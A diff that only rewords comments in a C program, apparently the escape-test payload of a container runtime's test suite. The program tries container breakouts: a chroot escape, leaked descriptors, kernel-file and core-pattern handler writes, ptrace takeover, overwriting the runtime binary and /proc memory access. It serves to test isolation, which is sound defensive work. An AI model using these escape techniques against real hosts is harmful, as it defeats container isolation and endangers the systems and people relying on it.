@@ -1,5 +1,5 @@
-/* What runs in the hostile pods. `attack WHAT MARKER …`: MARKER is a folder of the host that no container has.
- * Prints one line `escaped: …` for each way out that is open, and last what was tried. */
+/* The program of the hostile pods. `attack WHAT MARKER …`: MARKER is a folder of the host that no container mounts.
+ * Prints one line `escaped: …` for each escape that succeeds, and last what was attempted. */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
@@ -31,7 +31,7 @@ static void escaped(const char *format, ...) {
     va_end(list);
 }
 
-/* Appends to a file; 1 if that went through. Never makes or cuts one. */
+/* Appends to a file; returns 1 on success. Never creates or truncates one. */
 static int append(const char *path, const char *text) {
     int file = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
     if (file < 0) return 0;
@@ -40,7 +40,7 @@ static int append(const char *path, const char *text) {
     return written;
 }
 
-/* Whether the marker's folder is to be seen below `prefix`, or is `prefix` itself; leaves a file there if so. */
+/* Returns whether the marker's folder is visible below `prefix`, or is `prefix` itself; creates a file there if so. */
 static void look_below(const char *prefix) {
     const char *forms[] = {"%s%s", "%s"};
     char path[4096];
@@ -52,7 +52,7 @@ static void look_below(const char *prefix) {
         append(path, "changed\n");
         snprintf(path + length, sizeof path - length, "/by-%s", name);
         int file = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
-        /* In a folder of the container's own nothing is wrong with that: the host looks at its own. */
+        /* Writing to the container's own folder is no escape: the host checks its own folder. */
         if (file >= 0) close(file);
     }
 }
@@ -64,7 +64,7 @@ static void look_around(int count, char **prefixes) {
     for (int i = 0; i < count; i++) look_below(prefixes[i]);
 }
 
-/* Descriptors that were left open lead out. */
+/* Escapes through descriptors that were left open. */
 static void look_at_descriptors(void) {
     char path[64], target[4096];
     for (int fd = 3; fd < 256; fd++) {
@@ -119,7 +119,7 @@ static void write_kernel_files(void) {
     }
 }
 
-/* Also what is mounted over a masked file must not be one of those. */
+/* The file that is mounted over a masked file must not be one of those either. */
 static void write_masked_files(void) {
     char handler[4096];
     snprintf(handler, sizeof handler, "|%s/handler", marker);
@@ -193,7 +193,7 @@ static void make_devices(const char *folder, const char *disk) {
     }
 }
 
-/* Each is refused by the filter before the kernel looks at what is asked for. */
+/* The seccomp filter refuses each call before the kernel checks its arguments. */
 static void call(const char *what, long result) {
     if (result >= 0 || (errno != EPERM && errno != ENOSYS)) escaped("%s: %s", what, result >= 0 ? "done" : strerror(errno));
 }
@@ -271,7 +271,7 @@ static void call_the_kernel(void) {
     CALL(setdomainname, "escaped", 7);
 }
 
-/* The oldest one: a root inside of which the working directory is not. */
+/* The oldest escape: chroot to a folder that does not contain the working directory. */
 static void leave_by_chroot(void) {
     mkdir("/tmp/jail", 0755);
     if (fork() == 0) {
@@ -285,7 +285,7 @@ static void leave_by_chroot(void) {
     wait(0);
 }
 
-/* A library of the image that was loaded into a process which could write here. */
+/* Traces of an image's library that was loaded into a process with write access here. */
 static void look_for_loaded(void) {
     if (access("/loaded", F_OK) == 0) escaped("a library of the image was loaded");
 }
@@ -309,7 +309,7 @@ static int inside(const char *disk) {
     return 0;
 }
 
-/* Swaps two names as fast as it can, for as long as it may run. */
+/* Swaps two names as fast as possible, until it is killed. */
 static int swap(const char *a, const char *b) {
     for (;;) {
         if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) != 0) {
@@ -331,8 +331,9 @@ static unsigned long long permitted(int pid) {
 
 #define SYS_PTRACE_RIGHT (1ULL << 19)
 
-/* Stops every process that appears, and looks at its rights, its root, its directory and its descriptors, until it
- * has seen `wanted` of them. Who may take over others must see none with more rights; nobody may take those over. */
+/* Stops every process that appears, and inspects its rights, its root, its directory and its descriptors, until it
+ * has seen `wanted` processes. With CAP_SYS_PTRACE, this process must see none with more rights than its own; without,
+ * it must not be able to trace such a process. */
 static int newcomers(int wanted) {
     int next = getpid() + 1, seen = 0, mighty = 0;
     unsigned long long own = permitted(getpid());
@@ -347,7 +348,7 @@ static int newcomers(int wanted) {
             seen++;
             if (permitted(pid) & ~own) {
                 if (own & SYS_PTRACE_RIGHT) mighty++;
-                /* It may have become its program meanwhile; once it is traced, it cannot. */
+                /* It may have executed its program meanwhile; once it is traced, it cannot. */
                 if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 && permitted(pid) & ~own)
                     escaped("a process with more rights was taken over");
             }
@@ -369,8 +370,7 @@ static int newcomers(int wanted) {
     return 0;
 }
 
-/* Gives this process another root, and itself back the old one, over and over. Ends when it has been looked into
- * through `/went-in` in one of the two. */
+/* Switches this process to another root and back for `rounds` seconds, while commands enter the container. */
 static int roots(int rounds) {
     int old = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
     struct timespec pause = {0, 100000};
@@ -387,8 +387,8 @@ static int roots(int rounds) {
     return 0;
 }
 
-/* Run by the loader with the runtime's executable open as descriptor 3. As long as anybody runs it nobody can write to
- * it: its mode shows whether it could be changed. */
+/* Run by the loader with the runtime's executable open as descriptor 3. A running executable cannot be written to, so
+ * a change of its mode shows whether the container could change it. */
 static int overwrite(void) {
     char path[64];
     for (int attempt = 0; attempt < 50; attempt++) {
@@ -409,7 +409,7 @@ static int overwrite(void) {
     return 1;
 }
 
-/* In a pod that shares its processes: what the others give away. */
+/* In a pod with a shared pid namespace: what can be reached through the other processes. */
 static int others(void) {
     char path[128], byte[1];
     for (int pid = 1; pid < 64; pid++) {
@@ -422,7 +422,7 @@ static int others(void) {
         if (append(path, "knarr-escaped")) escaped("%s was written", path);
     }
     if (open("/proc/1/root/made", O_WRONLY | O_CREAT, 0644) >= 0) escaped("a file in the root of process 1");
-    /* A debugger may look into process 1, which has no rights. */
+    /* A debugger may inspect process 1, which has no capabilities. */
     int memory = permitted(getpid()) & SYS_PTRACE_RIGHT ? -1 : open("/proc/1/mem", O_RDWR);
     if (memory >= 0 && pread(memory, byte, 1, 0x400000) > 0) escaped("the memory of process 1");
     kill(1, SIGKILL);
